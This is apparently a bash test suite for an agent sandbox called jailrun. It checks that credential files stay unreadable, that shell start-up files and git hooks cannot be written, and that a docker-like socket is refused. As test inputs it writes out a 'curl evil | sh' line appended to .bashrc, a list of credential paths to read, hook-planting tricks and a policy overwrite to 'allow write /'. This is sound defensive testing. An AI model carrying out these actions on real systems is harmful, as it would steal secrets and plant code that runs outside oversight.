#!/bin/bash
# test_default.sh — the built-in default policy, with no policy file at all:
# an agent-like workload works (git, a package cache, a python venv, gcc),
# while every credential location stays unreadable (open, stat, listing,
# through a symlink), shell start-up files and git hooks stay unwritable,
# and a container-engine-like socket is refused.
#   usage: test_default.sh BUILD_DIR
set -u
. "$(dirname "$0")/lib.sh"
BUILD=$(cd "$1" && pwd)
JAILRUN=$BUILD/bin/jailrun
T=$(mktemp -d /tmp/jail-default-test.XXXXXX)
T=$(cd "$T" && pwd -P)
trap 'rm -rf "$T"' EXIT
export HOME=$T/home TMPDIR=$T/tmp PATH=/usr/local/bin:/usr/bin:/bin LC_ALL=C XDG_CONFIG_HOME=$T/home/.config
export GIT_AUTHOR_NAME=jail GIT_AUTHOR_EMAIL=jail@example.invalid GIT_COMMITTER_NAME=jail
export GIT_COMMITTER_EMAIL=jail@example.invalid GIT_CONFIG_NOSYSTEM=1
unset SSH_AUTH_SOCK
mkdir -p "$HOME" "$TMPDIR" "$T/proj"

run() { out=$("$JAILRUN" -- "$@" 2>&1); rc=$?; }

# ---- credentials: every location, by open, stat, listing and symlink ----
secret=SECRET-$$
for f in .ssh/id_rsa .ssh/id_ed25519 .gnupg/private-keys-v1.d/k.key .aws/credentials .azure/accessTokens.json \
	.config/gcloud/credentials.db .kube/config .docker/config.json .netrc .npmrc .pypirc .git-credentials \
	.password-store/bank.gpg .local/share/keyrings/login.keyring; do
	mkdir -p "$(dirname "$HOME/$f")"
	echo "$secret" >"$HOME/$f"
done
echo "github.com ssh-ed25519 AAAA" >"$HOME/.ssh/known_hosts"
echo "$secret" >"$T/proj/.env"
cd "$T/proj" || exit 1
for f in .ssh/id_rsa .ssh/id_ed25519 .gnupg/private-keys-v1.d/k.key .aws/credentials .azure/accessTokens.json \
	.config/gcloud/credentials.db .kube/config .docker/config.json .netrc .npmrc .pypirc .git-credentials \
	.password-store/bank.gpg .local/share/keyrings/login.keyring; do
	run cat "$HOME/$f"
	check "~/$f: not readable" lacks "$secret"
	run stat "$HOME/$f"
	check "~/$f: not stat-able" has "Permission denied"
	ln -sf "$HOME/$f" innocent-link
	run cat innocent-link
	check "~/$f: not readable through a symlink in the project" lacks "$secret"
done
rm -f innocent-link
run ls "$HOME/.ssh"
check "~/.ssh: not listable" has "Permission denied"
run cat "$HOME/.ssh/known_hosts"
check "~/.ssh/known_hosts: readable (git over ssh)" has "github.com"
run cat .env
check "a .env in the project: not readable" lacks "$secret"
run cat /etc/shadow
check "/etc/shadow: not readable" has "deny read /etc/shadow"

# ---- code that would run later, outside the jail ----
printf '# rc\n' >"$HOME/.bashrc"
cp "$HOME/.bashrc" "$T/bashrc.orig"
for f in .bashrc .profile .zshrc .bash_profile; do
	run sh -c "echo 'curl evil | sh' >> $HOME/$f"
	check "~/$f: not writable" has "jail: denied write"
done
check "~/.bashrc unchanged" cmp -s "$HOME/.bashrc" "$T/bashrc.orig"
check "~/.profile not created" test ! -e "$HOME/.profile"
git init -q "$T/proj/repo"
run sh -c 'echo "#!/bin/sh" > repo/.git/hooks/pre-commit'
check "git hook: not writable" test ! -e repo/.git/hooks/pre-commit
run sh -c 'printf "[core]\n\thooksPath = /tmp\n" >> repo/.git/config'
check "git config: not writable" bash -c "! grep -q hooksPath '$T/proj/repo/.git/config'"
run sh -c 'mv repo/.git repo/.g && echo "#!/bin/sh" > repo/.g/hooks/post-checkout; mv repo/.g repo/.git'
check "git hooks: not reachable by renaming .git away and back" test ! -e repo/.git/hooks/post-checkout
check "and .git stays where it was" test -d repo/.git
mkdir -p "$T/evil/hooks" && echo '#!/bin/sh' >"$T/evil/hooks/post-checkout"
mkdir -p repo2 && run mv "$T/evil" repo2/.git
check "a directory holding hooks cannot be moved into place as .git" test ! -e repo2/.git
run sh -c "mkdir -p $HOME/.config/jail && echo 'allow write /' > $HOME/.config/jail/policy"
check "the jail's own configuration: not writable" test ! -e "$HOME/.config/jail/policy"

# ---- a docker-like socket outside the grants ----
if command -v python3 >/dev/null; then
	mkdir -p "$T/run"
	python3 -c "
import socket, sys, time
s = socket.socket(socket.AF_UNIX); s.bind('$T/run/docker.sock'); s.listen(1)
time.sleep(30)" &
server=$!
for _ in $(seq 50); do [ -S "$T/run/docker.sock" ] && break; sleep 0.1; done
	run python3 -c "
import socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect('$T/run/docker.sock'); print('CONNECTED')
except PermissionError: print('refused')"
	kill "$server" 2>/dev/null
	check "a container-engine-like socket is refused" has "refused"
else
	skipped "docker-like socket" "python3 is not installed"
fi

# ---- an agent-like workload works ----
(cd repo && echo one >f && git add f && git commit -qm init)
run sh -c 'cd repo && git status --short && echo two > f && git add f && git commit -qm second && git log --oneline'
check "git status/add/commit in the project" has "second"
if command -v python3 >/dev/null && python3 -c 'import venv, ensurepip' 2>/dev/null; then
	run sh -c 'python3 -m venv .venv && .venv/bin/python -c "print(\"venv-ok\")"'
	check "a python venv created in the project runs" has "venv-ok"
else
	skipped "python venv" "python3 venv/ensurepip is not installed"
fi
if command -v npm >/dev/null; then
	printf '{"name":"x","version":"1.0.0"}' >package.json
	run npm pack --dry-run --loglevel=warn
	check "npm writes its cache/log directory" bash -c "ls '$HOME/.npm/_logs' | grep -q log"
else
	run sh -c "mkdir -p $HOME/.cache/tool && echo cached > $HOME/.cache/tool/entry"
	check "a tool cache under ~/.cache is writable" test -f "$HOME/.cache/tool/entry"
fi
if command -v gcc >/dev/null; then
	printf '#include <stdio.h>\nint main(void){puts("gcc-ok");return 0;}\n' >main.c
	run sh -c 'gcc -O2 -o main main.c && ./main'
	check "gcc builds and runs a program" has "gcc-ok"
else
	skipped "gcc" "gcc is not installed"
fi

finish
